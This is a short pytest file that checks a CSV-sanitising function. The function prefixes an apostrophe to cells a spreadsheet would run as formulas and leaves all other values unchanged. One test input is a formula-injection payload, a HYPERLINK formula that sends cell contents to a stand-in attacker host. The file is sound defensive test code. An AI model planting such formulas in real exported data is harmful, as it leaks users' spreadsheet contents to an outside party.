"""Cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import pytest

from hito.csvsafe import safe_cell


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("corridor at km 12", "corridor at km 12"),
        ("", ""),
        (-3, -3),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_csv_formula_cells_get_an_apostrophe_and_nothing_else_changes(
    given: object, written: object
) -> None:
    assert safe_cell(given) == written
